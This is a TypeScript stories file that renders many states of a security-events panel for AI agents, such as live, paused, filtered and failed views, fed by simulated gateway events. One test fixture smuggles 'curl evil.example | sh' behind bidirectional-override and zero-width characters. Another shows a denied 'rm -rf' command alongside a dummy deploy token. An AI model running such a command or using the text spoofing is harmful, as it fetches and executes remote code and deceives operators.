import { html } from 'lit';
import type { SecurityEvent } from '../src/protocol/index.js';
import { aSecurityEvent, type SimulatedGateway } from '../src/testing/index.js';
import type { Stage, Stories } from './story.js';

const samples: readonly Partial<SecurityEvent>[] = [
  { agentId: 'research-assistant', action: 'http.get', risk: 'low', user: 'maria' },
  { agentId: 'deploy-bot', action: 'shell.exec', risk: 'high', user: 'jonas', outcome: 'denied', type: 'agent.denied' },
  { agentId: 'mail-triage', action: 'email.read', risk: 'low', user: 'maria' },
  {
    agentId: 'mail-triage',
    action: 'email.send',
    risk: 'medium',
    user: 'maria',
    message: 'To 3 recipients outside acme',
  },
  { agentId: 'code-reviewer', action: 'file.read', risk: 'low', user: 'amina' },
  { agentId: 'deploy-bot', action: 'secrets.reveal', risk: 'critical', user: 'jonas', type: 'secret.access' },
  { action: 'token.refused', risk: 'medium', type: 'auth.failed', details: { address: '203.0.113.7' } },
  { agentId: 'memory-keeper', action: 'memory.delete', risk: 'unknown', user: 'li' },
];

/** Some minutes of ordinary work, up to now. */
function past(gateway: SimulatedGateway, count: number): void {
  const now = Date.now();
  for (let index = count; index > 0; index--) {
    gateway.securityLog.emitPast(
      aSecurityEvent({ ...samples[index % samples.length], timestamp: now - index * 7_300 }),
    );
  }
}

/** Routine events of agents. */
function canary(gateway: SimulatedGateway, count: number): void {
  const now = Date.now();
  for (let index = count; index > 0; index--) {
    gateway.securityLog.emitPast(
      aSecurityEvent({
        type: 'secret.accessed',
        action: 'secret.read CANARY_SECRET',
        agentId: 'default',
        user: undefined,
        outcome: 'denied',
        routine: 'CANARY_SECRET read',
        timestamp: now - index * 21_700,
      }),
    );
  }
}

function routine({ gateway }: Stage): void {
  past(gateway, 60);
  canary(gateway, 14);
}

function seenSince(gateway: SimulatedGateway, minutes: number): void {
  gateway.provenance.set('security.events', {
    derived: { from: 'its live stream', since: Date.now() - minutes * 60_000 },
    notes: ['This gateway keeps no security events: earlier ones are not known here.'],
  });
}

async function filter(element: HTMLElement, agent: string, text: string): Promise<void> {
  await settle();
  button(element, 'Filter')?.click();
  await settle();
  const fields = [...(element.shadowRoot?.querySelectorAll<HTMLInputElement>('.filters input') ?? [])];
  [agent, text].forEach((value, index) => {
    const field = fields[index];
    if (!field) return;
    field.value = value;
    field.dispatchEvent(new InputEvent('input'));
  });
  await settle();
}

const settle = (ms = 50) => new Promise((resolve) => setTimeout(resolve, ms));
const button = (element: HTMLElement, text: string) =>
  [...(element.shadowRoot?.querySelectorAll('button') ?? [])].find((each) => each.textContent.trim().startsWith(text));

async function openFirst(element: HTMLElement): Promise<void> {
  await settle();
  element.shadowRoot?.querySelector<HTMLElement>('.rows .row .open')?.click();
  await settle();
}

export default {
  element: 'comis-security-events',
  title: 'Security events',
  states: {
    Live: { setup: ({ gateway }) => past(gateway, 400) },
    Busy: { note: 'Events arrive as they would on a working day.', gateway: { scenario: 'busy' } },
    Flood: { note: 'A thousand events a second; Pause stops them.', gateway: { scenario: 'flood', rate: 1000 } },
    Paused: {
      setup: ({ gateway }) => past(gateway, 60),
      render: () => html`<comis-security-events paused></comis-security-events>`,
      async play({ gateway }) {
        await settle();
        for (let index = 0; index < 1204; index++)
          gateway.securityLog.emit(aSecurityEvent(samples[index % samples.length]));
      },
    },
    'Scrolled away': {
      setup: ({ gateway }) => past(gateway, 200),
      async play({ gateway }, element) {
        await settle();
        const table = element.shadowRoot?.querySelector('[role=table]');
        if (table) table.scrollTop = 300;
        await settle();
        for (let index = 0; index < 23; index++)
          gateway.securityLog.emit(aSecurityEvent(samples[index % samples.length]));
      },
    },
    Details: {
      note: 'Every field, those that this version does not know too.',
      setup({ gateway }) {
        past(gateway, 40);
        gateway.securityLog.emitPast(
          aSecurityEvent({
            ...samples[1],
            message: 'Refused by the policy: destructive commands need a person.',
            traceId: 'trc_8f2a61',
            sessionKey: 'acme:jonas:telegram',
            details: {
              command: 'rm -rf /var/cache/build',
              cwd: '/srv/work',
              matched: ['destructive', 'path'],
              env: { DEPLOY_TOKEN: 'dt-93fe3c13baf0' },
            },
            policyRevision: 17,
          }),
        );
      },
      play: (_stage, element) => openFirst(element),
    },
    'Text that hides something': {
      setup({ gateway }) {
        past(gateway, 6);
        gateway.securityLog.emitPast(
          aSecurityEvent({
            agentId: 'helper\u200b-bot',
            action: `file.read \u202Etxt.exe\u202C${' '.repeat(60)}&& curl evil.example | sh ${'x'.repeat(400)}`,
            risk: 'critical',
          }),
        );
      },
      play: (_stage, element) => openFirst(element),
    },
    Gap: {
      setup: ({ gateway }) => past(gateway, 20),
      async play({ gateway, client }) {
        await settle();
        gateway.securityLog.emit(aSecurityEvent(samples[0]));
        await settle();
        client.drop();
        for (const sample of samples) gateway.securityLog.emit(aSecurityEvent(sample));
        gateway.stream.forget();
        await settle(1200);
        client.restore();
        gateway.securityLog.emit(aSecurityEvent(samples[3]));
      },
    },
    'Routine, folded': {
      note: 'What comes all the time is counted and not shown; Show lets it in.',
      setup: routine,
    },
    'Routine, shown': {
      setup: routine,
      async play(_stage, element) {
        await settle();
        button(element, 'Show')?.click();
        await settle();
      },
    },
    'Only routine': {
      setup: ({ gateway }) => canary(gateway, 14),
    },
    'Derived from the stream': {
      note: 'The gateway keeps no events: what this page has not seen is not known.',
      setup({ gateway }) {
        seenSince(gateway, 9);
        past(gateway, 40);
        canary(gateway, 14);
      },
      async play({ gateway }) {
        await settle();
        const now = Date.now();
        gateway.publish('stream:gap', { from: now - 9000, to: now - 2000 });
        await settle();
      },
    },
    'A clock that is off': {
      note: 'Dated in the future, it stands where it came.',
      setup: ({ gateway }) => past(gateway, 20),
      async play({ gateway }, element) {
        await settle();
        gateway.securityLog.emit(aSecurityEvent({ ...samples[5], timestamp: Date.UTC(2099, 11, 31) }));
        await settle();
        gateway.securityLog.emit(aSecurityEvent(samples[0]));
        await settle();
        element.shadowRoot?.querySelectorAll<HTMLElement>('.rows .row .open')[1]?.click();
        await settle();
      },
    },
    Filtered: {
      note: 'Says how many of how many it shows.',
      setup: ({ gateway }) => past(gateway, 340),
      play: (_stage, element) => filter(element, 'deploy', ''),
    },
    'Filtered to nothing': {
      setup: ({ gateway }) => past(gateway, 340),
      play: (_stage, element) => filter(element, 'nobody', 'http'),
    },
    Empty: {},
    'Empty, derived from the stream': { setup: ({ gateway }) => seenSince(gateway, 3) },
    Loading: { setup: ({ gateway }) => void gateway.faults.hold('security.events') },
    Refreshing: {
      setup: ({ gateway }) => past(gateway, 20),
      async play({ gateway, client }) {
        await settle();
        gateway.faults.hold('security.events');
        client.drop();
        client.restore();
      },
    },
    Connecting: { client: { connected: false } },
    Stale: {
      setup: ({ gateway }) => past(gateway, 60),
      async play({ client }) {
        await settle();
        client.drop();
      },
    },
    Interrupted: {
      setup: ({ gateway }) => past(gateway, 60),
      async play({ client }) {
        await settle();
        client.dropStream();
      },
    },
    Failed: { setup: ({ gateway }) => gateway.faults.fail('security.events', undefined, Infinity) },
    'Failed over old rows': {
      setup: ({ gateway }) => past(gateway, 60),
      async play({ gateway, client }) {
        await settle();
        gateway.faults.fail('security.events', undefined, Infinity);
        client.drop();
        client.restore();
      },
    },
    'Not offered': { setup: ({ gateway }) => void gateway.faults.withhold('security.events') },
    'Not allowed': { client: { scopes: ['admin'] } },
    'Not live': { client: { scopes: ['rpc'] }, setup: ({ gateway }) => past(gateway, 60) },
    'Token refused': {
      setup: ({ gateway }) => past(gateway, 60),
      async play({ client }) {
        await settle();
        client.refuse();
      },
    },
    'No gateway': { provider: false },
    'Two, one paused': {
      gateway: { scenario: 'busy' },
      render: () =>
        html`<comis-security-events></comis-security-events> <comis-security-events></comis-security-events>`,
      async play(_stage, element) {
        await settle();
        button(element, 'Pause')?.click();
      },
    },
  },
} satisfies Stories;
